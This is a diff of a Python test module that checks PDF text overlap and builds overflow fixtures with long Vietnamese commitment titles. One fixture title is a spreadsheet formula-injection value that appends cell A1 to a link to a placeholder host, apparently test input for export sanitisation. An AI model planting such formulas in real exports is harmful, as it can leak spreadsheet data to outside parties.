@@ -50,7 +50,7 @@ def crossings(content: bytes) -> tuple[int, list[str]]:
                     (c for c in page.chars if c["text"].strip() and x0 <= c["x0"] <= x1 and top <= c["top"] <= bottom),
                     key=lambda c: (round(c["top"]), c["x0"]),
                 )
-                for before, after in zip(inside, inside[1:]):
+                for before, after in zip(inside, inside[1:], strict=False):
                     same_line = abs(before["top"] - after["top"]) < 1
                     if same_line and after["x0"] < before["x1"] - 1.0:
                         bad.append(f"page {number}: {before['text']!r} and {after['text']!r} overlap")
@@ -74,9 +74,11 @@ class OverflowTests(TestCase):
         factories.commitment(
             partnership=world.partnership,
             field=cls.programme.housing,
-            title=("Hỗ trợ xây dựng nhà đại đoàn kết, sửa chữa nhà ở cho hộ nghèo, hộ cận nghèo, gia đình chính sách "
-                   "và đồng bào dân tộc thiểu số có hoàn cảnh đặc biệt khó khăn tại các thôn vùng sâu, vùng xa, "
-                   "biên giới của xã, bảo đảm an toàn trước mùa mưa bão năm 2025–2026 theo chương trình kết nghĩa.")[:300],
+            title=(
+                "Hỗ trợ xây dựng nhà đại đoàn kết, sửa chữa nhà ở cho hộ nghèo, hộ cận nghèo, gia đình chính sách "
+                "và đồng bào dân tộc thiểu số có hoàn cảnh đặc biệt khó khăn tại các thôn vùng sâu, vùng xa, "
+                "biên giới của xã, bảo đảm an toàn trước mùa mưa bão năm 2025–2026 theo chương trình kết nghĩa."
+            )[:300],
             target_quantity=Decimal("123456789"),
             target_unit="lượt người được khám, cấp thuốc",
             target_value_vnd=12_345_678_901,
@@ -84,7 +86,7 @@ class OverflowTests(TestCase):
         factories.commitment(
             partnership=world.partnership,
             field=cls.programme.health,
-            title="=HYPERLINK(\"http://example.com\"&A1,\"x\") " + "Khámchữabệnhkhôngcódấucách" * 4,
+            title='=HYPERLINK("http://example.com"&A1,"x") ' + "Khámchữabệnhkhôngcódấucách" * 4,
             target_value_vnd=999_999_999_999,
         )
         cls.assertion_count = Commitment.objects.count()
